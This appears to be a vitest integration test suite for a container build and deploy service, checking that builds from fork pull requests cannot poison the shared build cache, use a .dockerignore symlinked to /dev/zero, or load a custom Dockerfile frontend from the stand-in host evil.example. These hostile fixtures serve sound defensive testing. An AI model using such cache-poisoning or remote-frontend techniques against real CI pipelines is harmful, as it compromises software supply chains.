import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { removeBuildImages } from '../helpers/build-images.js';
import { trackCheckRuns, type CheckRuns } from '../helpers/check-runs.js';
import { testFlavour, testRepo } from '../helpers/flavour.js';
import { GitServer, type GitRepo } from '../helpers/git-server.js';
import { startHarness, uniqueName, waitFor, type Harness } from '../helpers/harness.js';
import { pullRequestPayload, pushPayload } from '../helpers/payloads.js';
import { deleteKeys } from '../helpers/redis-keys.js';
import {
  busybox,
  dockerConfigWithContext,
  REGISTRY,
  testDeploySettings,
} from '../helpers/swarm.js';

const POOL = 'linux-x86_64';

describe('build jobs: only a build that will be staged is trusted', () => {
  const id = uniqueName('untrusted').toLowerCase();
  const cacheId = `cache-${id}`;
  const mount = `--mount=type=cache,id=${cacheId},target=/cache`;
  let git: GitServer;
  let repo: GitRepo;
  let h: Harness;
  let checks: CheckRuns;
  const shas: string[] = [];
  const target = { owner: 'acme', name: id, cloneUrl: '' };

  beforeAll(async () => {
    git = await new GitServer().start();
    repo = git.createRepo('acme', id);
    target.cloneUrl = git.cloneUrl('acme', id);
    h = await startHarness(
      testFlavour({
        stagingRepo: `${REGISTRY}/staging-${id}`,
        repos: [
          testRepo(`acme/${id}`, {
            deployments: [{ branch: 'live', target: `${REGISTRY}/acme/${id}:live` }],
          }),
        ],
      }),
      { deploySettings: testDeploySettings(dockerConfigWithContext('unused')) },
    );
    checks = trackCheckRuns(h.github);
  });
  afterAll(async () => {
    await h?.close();
    await git?.stop();
    if (h) {
      removeBuildImages(h, `acme/${id}`, shas);
      await deleteKeys(h.env.redisUrl, h.env.prefix);
    }
  });

  async function logOf(sha: string): Promise<string> {
    const queue = h.deployer.runtime.queues.build(POOL);
    const jobs = (await queue.getJobs()).filter((j) => j.data.sha === sha);
    const logs = await Promise.all(jobs.map(async (j) => (await queue.getJobLogs(j.id!)).logs));
    return logs.flat().join('\n');
  }

  /** Commits a Dockerfile and opens a pull request from a fork with it; resolves to the check run. */
  async function forkPullRequest(dockerfile: string, number: number) {
    repo.write({ busybox }, 0o755);
    repo.write({ Dockerfile: dockerfile, 'nonce.txt': randomUUID() });
    const sha = repo.commit(`pull request ${number}`);
    shas.push(sha);
    execFileSync('git', ['-C', repo.work, 'push', '-q', 'origin', `HEAD:refs/pull/${number}/head`]);
    const payload = pullRequestPayload(target, 'opened', number, sha, true);
    expect((await h.send('pull_request', payload)).status).toBe(200);
    return { sha, done: await waitFor(`PR ${number} to conclude`, () => checks.concluded(sha)) };
  }

  const script = (s: string) =>
    `FROM scratch\nCOPY busybox /bin/busybox\nCOPY nonce.txt /nonce.txt\nRUN ${mount} ["/bin/busybox", "sh", "-c", "${s}"]\n`;
  const list = 'echo SEEN: $(/bin/busybox ls /cache | /bin/busybox tr \\"\\\\n\\" \\" \\")';

  it('a fork’s build writing into a cache mount does not reach the deployment branch’s build', async () => {
    const pr = await forkPullRequest(script(`echo poison > /cache/poison; ${list}`), 11);
    expect(pr.done.conclusion).toBe('success');
    expect(await logOf(pr.sha)).toMatch(/SEEN: poison/);

    repo.write({
      Dockerfile: script(`echo trusted > /cache/trusted; ${list}`),
      'nonce.txt': randomUUID(),
    });
    const sha = repo.commit('live');
    shas.push(sha);
    repo.push('live');
    expect((await h.send('push', pushPayload(target, 'live', sha))).status).toBe(200);
    const done = await waitFor('the live build to conclude', () => checks.concluded(sha), 120_000);
    expect(done.conclusion).toBe('success');
    const log = await logOf(sha);
    expect(log).toMatch(/SEEN: trusted/);
    expect(log).not.toMatch(/SEEN:.*poison/);
  }, 180_000);

  it('a fork’s .dockerignore symlinked to /dev/zero fails that build only, naming the file', async () => {
    symlinkSync('/dev/zero', join(repo.work, '.dockerignore'));
    const pr = await forkPullRequest(script('echo hi'), 13);
    rmSync(join(repo.work, '.dockerignore'));
    expect(pr.done.conclusion).toBe('failure');
    expect(JSON.stringify(pr.done.output)).toContain(
      '.dockerignore in the checkout is a symlink to /dev/zero, outside the checkout',
    );
    // Tried once, not retried: the commit's content will not change.
    expect((await logOf(pr.sha)).match(/^Fetching /gm)).toHaveLength(1);
  }, 120_000);

  it('a fork’s Dockerfile asking for a custom frontend fails that build, saying why', async () => {
    const pr = await forkPullRequest(
      `# syntax=evil.example/frontend:latest\n${script('echo hi')}`,
      12,
    );
    expect(pr.done.conclusion).toBe('failure');
    const text = JSON.stringify(pr.done.output);
    expect(text).toContain(
      'Dockerfile asks for the frontend \\"evil.example/frontend:latest\\" (syntax directive); builds from forks and pull requests may only use docker/dockerfile',
    );
  }, 120_000);
});
